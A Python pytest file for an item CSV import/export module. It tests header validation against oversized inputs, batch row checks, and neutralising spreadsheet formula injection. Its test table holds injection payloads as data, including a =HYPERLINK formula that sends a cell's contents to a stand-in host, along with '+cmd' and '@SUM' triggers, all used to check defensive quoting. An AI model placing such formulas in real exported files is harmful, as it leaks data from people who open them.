"""The item CSV format, without a database: headers, row reports, exports."""

from __future__ import annotations

from decimal import Decimal
from itertools import product

import pytest

from core.items import csvfile, spreadsheet, uploads

REQUIRED = ["sku", "name", "price", "quantity"]


def test_a_header_is_matched_trimmed_and_in_any_case() -> None:
    assert csvfile.parse_header([" Quantity", "PRICE ", "sku", "Name", "description"]) == {
        "quantity": 0,
        "price": 1,
        "sku": 2,
        "name": 3,
        "description": 4,
    }


def test_a_huge_header_of_unknown_columns_is_refused_naming_the_first_ones() -> None:
    """16,000 columns (about 200 KB): the check is linear in the header, so
    it takes no longer than reading it, and the message names the first ten
    unknown columns (each cut short) and counts the others."""
    unknown = [f"colour-{n}" for n in range(16_000, 0, -1)]
    unknown[1] = "x" * 10_000
    with pytest.raises(csvfile.UploadProblem) as refused:
        csvfile.parse_header([*REQUIRED, *unknown, *unknown])  # each twice
    message = str(refused.value)
    assert message.startswith(
        f"CSV header: unknown columns: 'colour-16000', '{'x' * 40}...', 'colour-15998', "
    )
    assert message.count("'colour-") == 9
    assert message.endswith(
        "'colour-15991' and 15990 more (allowed: sku, name, description, price, quantity)"
    )
    assert len(message) < 400
    assert "repeated" not in message  # only known columns are said to repeat


def test_a_huge_header_repeating_known_columns_is_refused() -> None:
    header = REQUIRED + ["sku", "Name "] * 8_000
    with pytest.raises(csvfile.UploadProblem, match=r"^CSV header: repeated columns: name, sku$"):
        csvfile.parse_header(header)


def test_a_megabyte_header_upload_is_refused_for_its_length() -> None:
    header = ",".join([*REQUIRED, *(f"c{n:07d}" for n in range(120_000))])
    assert len(header) > 1_000_000
    with pytest.raises(
        csvfile.UploadProblem, match=r"^CSV header \(the first line\) is longer than 4096 bytes$"
    ):
        uploads.inspect_upload(header.encode() + b"\na,b,1,1\n", uploads.HeaderLimits(4096, 32))


def test_missing_unknown_and_repeated_columns_are_all_reported() -> None:
    with pytest.raises(csvfile.UploadProblem) as refused:
        csvfile.parse_header(["sku", "SKU", "colour", "name"])
    assert str(refused.value) == (
        "CSV header: missing required columns: price, quantity; "
        "unknown columns: 'colour' (allowed: sku, name, description, price, quantity); "
        "repeated columns: sku"
    )


def read(content: str, size: int = 100) -> list[csvfile.Batch]:
    rows = csvfile.reader(content)
    header = csvfile.read_header(rows)
    return list(csvfile.batches(rows, csvfile.parse_header(header), len(header), size))


def test_rows_are_validated_in_batches_in_line_order() -> None:
    content = "sku,name,price,quantity\n" + "".join(
        f"s{n},Name,{'x' if n % 3 == 0 else '1'},{n}\n" for n in range(7)
    )
    batches = read(content, size=3)
    assert [batch.rows for batch in batches] == [3, 3, 1]
    assert [batch.last_line for batch in batches] == [4, 7, 8]
    assert batches[0].records == [
        ("s1", "Name", None, Decimal(1), 1),
        ("s2", "Name", None, Decimal(1), 2),
    ]
    assert [rejection for batch in batches for rejection in batch.rejected] == [
        (2, "price", "'x' is not a number"),
        (5, "price", "'x' is not a number"),
        (8, "price", "'x' is not a number"),
    ]


def test_the_first_batch_may_be_smaller() -> None:
    """``first`` sizes the first batch only; a ``first`` above ``size`` is
    ``size``. Every row is in exactly one batch, in order."""
    content = "sku,name,price,quantity\n" + "".join(f"s{n},Name,1,{n}\n" for n in range(10))

    def sizes(size: int, first: int) -> list[int]:
        rows = csvfile.reader(content)
        header = csvfile.read_header(rows)
        found = list(csvfile.batches(rows, csvfile.parse_header(header), len(header), size, first))
        assert [r[0] for b in found for r in b.records] == [f"s{n}" for n in range(10)]
        return [batch.rows for batch in found]

    assert sizes(4, 1) == [1, 4, 4, 1]
    assert sizes(4, 9) == [4, 4, 2]


def test_a_repeated_sku_is_refused_across_batches() -> None:
    batches = read("sku,name,price,quantity\na,A,1,1\nb,B,1,1\na,Again,1,1\n", size=2)
    assert batches[1].rejected == [(4, "sku", "repeats the sku of line 2")]


def test_the_report_keeps_the_first_errors_and_counts_all() -> None:
    content = "sku,name,price,quantity\n" + "".join(f"s{n},,1,1\n" for n in range(1500))
    report = csvfile.ImportReport()
    for batch in read(content, size=400):
        report.add(batch, created=0, updated=0)
    result = report.result()
    assert result["skipped"] == 1500
    assert len(result["errors"]) == csvfile.MAX_REPORTED_ERRORS
    assert result["errors"][0] == {"line": 2, "column": "name", "reason": "is required"}
    assert result["errors_truncated"] is True


def test_an_export_is_the_header_and_rows_in_csv_column_order() -> None:
    export = csvfile.ExportWriter()
    export.write([("a-1", 'Red "quoted", mug', None, Decimal("4.50"), 2)])
    assert export.content() == (
        b'sku,name,description,price,quantity\r\na-1,"Red ""quoted"", mug",,4.50,2\r\n'
    )


@pytest.mark.parametrize(
    ("content_type", "csv"),
    [
        ("text/csv", True),
        ("Text/CSV; charset=utf-8", True),
        ("application/vnd.ms-excel", True),
        ("application/octet-stream", True),
        ("image/png", False),
        ("application/json", False),
    ],
)
def test_csv_media_types(content_type: str, csv: bool) -> None:
    assert csvfile.is_csv_media_type(content_type) is csv


# Cells and what an export writes for them: a quote before a cell that would
# start a formula, or that starts with quotes and then such a character.
NEUTRALISED = [
    ("", ""),
    ("=", "'="),
    ("+", "'+"),
    ("-", "'-"),
    ("@", "'@"),
    ("\t", "'\t"),
    ("\r", "'\r"),
    ("\n", "'\n"),
    ("=1+1", "'=1+1"),
    (
        '=HYPERLINK("https://e.example/?x="&A2,"Go")',
        "'" + '=HYPERLINK("https://e.example/?x="&A2,"Go")',
    ),
    ("+cmd", "'+cmd"),
    ("-2+3", "'-2+3"),
    ("-5", "'-5"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"),
    ("\rx", "'\rx"),
    ("'=already quoted", "''=already quoted"),
    ("''-x", "'''-x"),
    ("'", "'"),
    ("''", "''"),
    ("'tis", "'tis"),
    ("a=b", "a=b"),
    (" =1+1", "' =1+1"),
    ("\u00a0 @x", "'\u00a0 @x"),
    ("\uff1d1+1", "'\uff1d1+1"),
    ("\u3000\uff0bcmd", "'\u3000\uff0bcmd"),
    ("' =x", "'' =x"),
    ("a =b", "a =b"),
    ("  ", "  "),
    ("Blue mug", "Blue mug"),
    ("line one\n=two", "line one\n=two"),
]


@pytest.mark.parametrize(("cell", "written"), NEUTRALISED)
def test_a_cell_that_would_start_a_formula_is_exported_behind_a_quote(
    cell: str, written: str
) -> None:
    assert spreadsheet.neutralise(cell) == written
    assert spreadsheet.restore(written) == cell


@pytest.mark.parametrize(
    ("cell", "read"),
    [
        ("", ""),
        ("'", "'"),
        ("''", "''"),
        ("'=", "="),
        ("'=1+1", "=1+1"),
        ("''=1+1", "'=1+1"),
        ("'-5", "-5"),
        ("'\t", "\t"),
        ("'tis", "'tis"),
        ("''tis", "''tis"),
        ("=1+1", "=1+1"),  # a user's own file: read as it stands
        ("x'=1", "x'=1"),
    ],
)
def test_an_import_drops_one_quote_before_a_formula_character_only(cell: str, read: str) -> None:
    assert spreadsheet.restore(cell) == read


def test_every_short_cell_is_exported_safely_and_read_back_unchanged() -> None:
    """All cells of up to 4 characters from quotes, triggers and others."""
    alphabet = ["'", "=", "-", "@", "\t", "\r", "\n", "+", "a", " ", '"', "\uff1d", "\u3000"]
    for length in range(5):
        for chars in product(alphabet, repeat=length):
            cell = "".join(chars)
            written = spreadsheet.neutralise(cell)
            assert written[:1] not in spreadsheet.TRIGGERS, repr(cell)
            assert written.lstrip(" \u3000")[:1] not in spreadsheet.TRIGGERS, repr(cell)
            assert written in (cell, "'" + cell), repr(cell)
            assert spreadsheet.restore(written) == cell, repr(cell)


def test_an_export_neutralises_text_and_leaves_numbers_plain() -> None:
    export = csvfile.ExportWriter()
    export.write(
        [
            ("-5", "=1+1", "@SUM(A1)", Decimal("0.00"), 0),
            ("a-1", "'tis", None, Decimal("9999999999.99"), 2_147_483_647),
            ("b", "\tx", "\rx", Decimal("4.50"), 2),
        ]
    )
    assert export.content() == (
        b"sku,name,description,price,quantity\r\n"
        b"'-5,'=1+1,'@SUM(A1),0.00,0\r\n"
        b"a-1,'tis,,9999999999.99,2147483647\r\n"
        b"b,'\tx,\"'\rx\",4.50,2\r\n"
    )


def test_an_import_restores_text_and_reads_numbers_as_they_stand() -> None:
    content = (
        "sku,name,description,price,quantity\n"
        "'-5,'=1+1,'@SUM(A1),0.00,0\n"
        "a-1,'tis,''=x,1,2\n"
        "b,Mug,,'+1,1\n"  # a quote before a number is not ours: refused
    )
    (batch,) = read(content)
    assert batch.records == [
        ("-5", "=1+1", "@SUM(A1)", Decimal("0.00"), 0),
        ("a-1", "'tis", "'=x", Decimal(1), 2),
    ]
    assert batch.rejected == [(4, "price", '"\'+1" is not a number')]
